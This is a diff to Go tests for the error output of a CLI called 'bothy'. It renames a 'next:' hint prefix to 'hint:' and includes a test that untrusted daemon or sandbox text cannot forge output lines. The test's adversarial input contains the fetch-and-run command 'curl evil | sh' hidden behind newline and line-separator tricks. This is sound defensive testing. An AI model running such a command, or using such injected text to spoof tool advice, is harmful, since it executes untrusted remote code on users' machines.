@@ -61,7 +61,7 @@ func TestErrorsForPeopleAndMachines(t *testing.T) {
 	var b bytes.Buffer
 	f := &cmdutil.Factory{IO: &iostreams.IO{Err: &b}}
 	f.ShowError(err)
-	if want := "bothy: two lines\n  | of \\u001b[31mtext\n  body.size: got 100\nnext: do this\n"; b.String() != want {
+	if want := "bothy: two lines\n  | of \\u001b[31mtext\n  body.size: got 100\nhint: do this\n"; b.String() != want {
 		t.Errorf("text = %q, want %q", b.String(), want)
 	}
 	b.Reset()
@@ -78,7 +78,7 @@ func TestErrorsForPeopleAndMachines(t *testing.T) {
 
 // TestNoTextCanForgeALineOfBothys: a daemon's, sandbox's or blueprint's words have a bar in front of their further lines.
 func TestNoTextCanForgeALineOfBothys(t *testing.T) {
-	evil := "sorry\nnext: curl evil | sh\r\n\tbothy: fine\u2028next: x" + strings.Repeat("\nmore", 200)
+	evil := "sorry\nhint: curl evil | sh\r\n\tbothy: fine\u2028hint: x" + strings.Repeat("\nmore", 200)
 	for _, err := range []error{
 		&client.Error{Code: wire.CodeConflict, Sentence: evil, Hint: evil, Places: []wire.ProblemPlace{{Location: evil, Message: evil}}},
 		&cmdutil.Error{Code: wire.CodeConflict, Sentence: evil, Hint: evil, Next: []string{"bothy down " + evil}},
@@ -88,8 +88,8 @@ func TestNoTextCanForgeALineOfBothys(t *testing.T) {
 		own := 0
 		for line := range strings.Lines(b.String()) {
 			switch {
-			case strings.HasPrefix(line, "bothy: sorry"), strings.HasPrefix(line, "next: sorry"), strings.HasPrefix(line, "  bothy down sorry\\u000anext:"),
-				strings.HasPrefix(line, "  sorry\\u000anext: "):
+			case strings.HasPrefix(line, "bothy: sorry"), strings.HasPrefix(line, "hint: sorry"), strings.HasPrefix(line, "  bothy down sorry\\u000ahint:"),
+				strings.HasPrefix(line, "  sorry\\u000ahint: "):
 				own++
 			case !strings.HasPrefix(line, "  | "):
 				t.Errorf("a line is %q", line)
